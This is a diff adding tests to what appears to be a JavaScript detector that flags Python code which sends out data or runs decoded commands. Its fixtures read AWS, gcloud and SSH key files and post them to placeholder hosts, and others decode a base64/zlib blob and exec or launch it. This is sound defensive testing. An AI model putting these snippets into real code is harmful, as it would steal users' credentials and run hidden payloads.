@@ -29,4 +29,45 @@ describe('Python files', () => {
     }
     assert.deepEqual(kindsIn(`subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True)`), []);
   });
+
+  it('send files that open accounts, however their names are put together and handed on', () => {
+    const places = `import os, pathlib
+HOME = pathlib.Path.home()
+def stores():
+    for base in ('.aws', '.config/gcloud'):
+        yield HOME / base / 'credentials'
+    yield os.path.join(str(HOME), '.ssh', 'id_ed25519')
+`;
+    const ways = [
+      'def main():\n    found = []\n    for p in stores():\n        found.append(p.read_text())\n    s = requests.Session()\n    session.post(URL, json=found)\nmain()',
+      "def put(name, body):\n    con = http.client.HTTPSConnection(HOST)\n    conn.request('PUT', name, body)\nfor p in stores():\n    with open(p) as fh:\n        put(p.name, fh.read())",
+      'blob = {str(p): p.read_bytes() for p in stores()}\nsock.sendall(pickle.dumps(blob))',
+    ];
+    for (const way of ways) assert.deepEqual(kindsIn(places + way), ['command-sends-data'], way);
+    assert.deepEqual(
+      kindsIn(`${places}for p in stores():\n    print(p, p.exists())\nrequests.post(URL, json={'ok': True})`),
+      [],
+    );
+  });
+
+  it('run what they have decoded, also by way of a function or a file', () => {
+    const blob =
+      'def unpack(text):\n    return zlib.decompress(base64.b64decode(text))\ncode = unpack(BLOB).decode()\n';
+    assert.ok(kindsIn(`${blob}exec(code)`).includes('encoded-command'));
+    assert.ok(
+      kindsIn(
+        `${blob}with open(path, 'w') as out:\n    out.write(code)\nsubprocess.Popen([sys.executable, path])\nos.system(path)`,
+      ).includes('encoded-command'),
+    );
+    assert.deepEqual(kindsIn(`${blob}with open(path, 'w') as out:\n    out.write(code)`), []);
+  });
+
+  it('say in comments and texts what they do not do', () => {
+    assert.deepEqual(
+      kindsIn(
+        `'''exec(requests.request('GET', URL).text)'''\n# requests.post(URL, data=open(os.path.expanduser('~/.npmrc')))\nversion = {}\nexec(open('version.py').read(), version)`,
+      ),
+      [],
+    );
+  });
 });
